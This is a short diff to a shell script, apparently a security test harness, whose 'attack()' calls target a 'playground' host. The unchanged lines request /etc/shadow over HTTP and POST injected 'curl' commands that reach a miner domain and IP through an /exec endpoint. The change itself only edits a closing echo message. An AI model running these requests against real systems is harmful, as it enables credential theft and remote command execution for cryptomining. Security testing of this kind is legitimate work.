@@ -25,4 +25,4 @@ attack() {
 attack read-shadow "http://$playground/etc/shadow"
 attack miner-by-domain -X POST "http://$playground/exec" -d "command=curl -s -m 2 http://$miner_domain:$miner_port/"
 attack miner-by-ip -X POST "http://$playground/exec" -d "command=curl -s -m 2 http://$miner_ip:$miner_port/"
-echo "attacker: done"
+echo DONE
